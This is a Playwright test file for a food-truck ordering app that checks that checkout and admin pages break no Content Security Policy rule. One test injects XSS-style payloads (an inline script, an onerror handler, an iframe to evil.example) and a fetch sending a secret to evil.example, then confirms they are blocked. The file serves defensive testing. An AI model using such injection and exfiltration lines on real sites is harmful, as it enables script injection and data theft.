import type { Page } from "@playwright/test";
import { ADMIN_SCREENS, type AdminScreen, type Stage, setStage } from "../harness/admin-screens.ts";
import { asOwner, enterAsAdminOf, enterAsOwnerOf } from "../harness/arrange.ts";
import {
  answerBank,
  CARDS,
  continueToPayment,
  expectConfirmed,
  payByCard,
} from "../harness/checkout.ts";
import { watchConsole } from "../harness/console.ts";
import { addToCart, goToCheckout, notifications } from "../harness/menu.ts";
import { noisePng } from "../harness/pictures.ts";
import { watchPolicy } from "../harness/policy.ts";
import { expect, test } from "../harness/test.ts";

test("a purchase with the bank's question breaks no rule of the pages", async ({ page, phone }) => {
  const violations = await watchPolicy(page);
  const complaints = watchConsole(page);
  await page.goto("/");
  await page.getByRole("link", { name: "Spicy Burritos" }).click();
  await addToCart(page, "The Portland", {
    options: ["Carnitas", "Medium", "Guacamole"],
    quantity: 2,
    instructions: "Cut in half",
  });
  await page.reload();
  await goToCheckout(page);
  await continueToPayment(page, { phone, email: "rosa@example.com" });
  await payByCard(page, CARDS.asksTheBank);
  await answerBank(page, "Complete");
  await expectConfirmed(page);
  await page.getByRole("link", { name: "Follow your order" }).click();
  await expect(page.getByText("Order received")).toBeVisible();
  await page.reload();
  await expect(page.getByText("Order received")).toBeVisible();
  expect(violations).toEqual([]);
  expect(complaints).toEqual([]);
});

test("no screen of a superadmin breaks one", async ({ page, product, sandbox, phone }) => {
  test.slow();
  const stage = await setStage(product, sandbox, phone);
  await enterAsOwnerOf(page, product, stage.truck);
  const violations = await watchPolicy(page);
  const complaints = watchConsole(page);
  await visit(page, stage, ADMIN_SCREENS);
  await openDialogs(page);
  for (const path of ["/admin/trucks/new", "/admin/ledger", "/admin/held-payments"]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  await page.goto("/admin/users");
  await page.getByRole("button", { name: "Add staff" }).click();
  await expect(page.getByRole("dialog", { name: "Add staff" })).toBeVisible();
  expect(violations).toEqual([]);
  expect(complaints).toEqual([]);
});

test("no screen of a truck's admin breaks one", async ({ page, product, sandbox, phone }) => {
  test.slow();
  const stage = await setStage(product, sandbox, phone);
  await enterAsAdminOf(page, product, stage.truck);
  const { orders } = await asOwner<{ orders: { _id: string }[] }>(product, [
    "GET",
    `/orders?truckId=${stage.truck._id}`,
  ]);
  const violations = await watchPolicy(page);
  const complaints = watchConsole(page);
  await visit(
    page,
    stage,
    ADMIN_SCREENS.filter(({ isSuperadmins }) => !isSuperadmins),
  );
  await workOrders(page, orders[0]?._id ?? "");
  await uploadPicture(page, stage);
  expect(violations).toEqual([]);
  expect(complaints).toEqual([]);
});

test("the reader of the API and the developers' pages break none", async ({ page }) => {
  const violations = await watchPolicy(page);
  const complaints = watchConsole(page);
  await page.goto("/api/docs");
  await page.getByRole("button", { name: /Settings of the screens/ }).click();
  await page.getByRole("button", { name: "Try it out" }).click();
  await page.getByRole("button", { name: "Execute" }).click();
  await expect(page.getByText("publishableKey").first()).toBeVisible();
  for (const path of ["/api-test", "/menu-test", "/admin/login"]) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  }
  expect(violations).toEqual([]);
  expect(complaints).toEqual([]);
});

test("what does break the rules is stopped, and these journeys would see it", async ({ page }) => {
  const violations = await watchPolicy(page);
  await page.goto("/");
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.hacked = 1";
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", '<img src="/x" onerror="window.hacked = 1">');
    document.body.insertAdjacentHTML("beforeend", '<p style="color: red">red</p>');
    document.body.insertAdjacentHTML("beforeend", "<style>p { color: red }</style>");
    document.body.insertAdjacentHTML("beforeend", '<iframe src="https://evil.example"></iframe>');
  });
  await expect
    .poll(() => violations.map(({ rule }) => rule).sort())
    .toEqual([
      "frame-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
  expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
  expect(await page.evaluate(calls)).toBe("refused");
});

/** Whether data can be carried off to another site. */
async function calls(): Promise<string> {
  return fetch("https://evil.example/?secret=1").then(
    () => "sent",
    () => "refused",
  );
}

async function visit(page: Page, stage: Stage, screens: AdminScreen[]): Promise<void> {
  for (const { path, content } of screens) {
    await page.goto(path(stage));
    await expect(content(page, stage)).toBeVisible();
  }
}

async function openDialogs(page: Page): Promise<void> {
  await page.goto("/admin/menu");
  await page.getByRole("button", { name: "Delete Skillet Hash" }).click();
  await expect(page.getByRole("alertdialog")).toBeVisible();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Import CSV" }).click();
  await expect(page.getByRole("dialog", { name: "Import menu" })).toBeVisible();
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Change Order" }).click();
  await page.goto("/admin/analytics");
  const hours = page.getByRole("region", { name: "By hour of day", exact: true });
  await expect(hours.getByRole("img", { name: /^Revenue/ })).toBeVisible();
  await hours.getByText("Orders", { exact: true }).click();
  await expect(hours.getByRole("img", { name: /^Orders/ })).toBeVisible();
}

async function workOrders(page: Page, orderId: string): Promise<void> {
  await page.goto("/admin/orders/new");
  await page.getByRole("button", { name: /^Skillet Hash/ }).click();
  await page.goto("/admin/kitchen");
  await expect(page.getByRole("article", { name: /^Order #/ }).first()).toBeVisible();
  await page.goto(`/admin/orders/${orderId}`);
  await page.getByRole("button", { name: "Give money back" }).click();
  await expect(page.getByRole("dialog", { name: "Give money back" })).toBeVisible();
  await page.addInitScript(() => Object.assign(window, { print: () => undefined }));
  for (const what of ["ticket", "receipt"]) {
    await page.goto(`/admin/orders/${orderId}/print?what=${what}&paper=80`);
    await expect(page.getByRole("article")).toBeVisible();
    await page.emulateMedia({ media: "print" });
    await page.emulateMedia({ media: "screen" });
  }
}

async function uploadPicture(page: Page, { dishId }: Stage): Promise<void> {
  await page.goto(`/admin/menu/edit/${dishId}`);
  await page.getByLabel("Choose a file for picture").setInputFiles(noisePng(900, 800));
  await expect(page.getByLabel("Picture: address")).toHaveValue(/-900\.webp$/);
  await page.getByRole("button", { name: "Save" }).click();
  await expect(notifications(page)).toContainText("Skillet Hash saved");
}
